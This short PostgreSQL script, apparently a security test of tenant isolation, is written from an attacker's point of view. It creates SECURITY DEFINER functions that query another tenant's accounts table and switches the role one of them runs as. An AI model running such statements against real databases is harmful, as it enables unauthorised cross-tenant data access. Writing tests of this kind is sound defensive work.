-- A SECURITY DEFINER function of the attacker's own, and one with a different role in effect.
CREATE FUNCTION reads() RETURNS SETOF text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN QUERY EXECUTE 'TABLE tenant_beta.accounts'; END $$;
ALTER FUNCTION reads() SECURITY DEFINER SET role = 'app';
CREATE FUNCTION reads_text() RETURNS SETOF text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT owner FROM tenant_beta.accounts'; END $$;
SELECT * FROM reads_text();
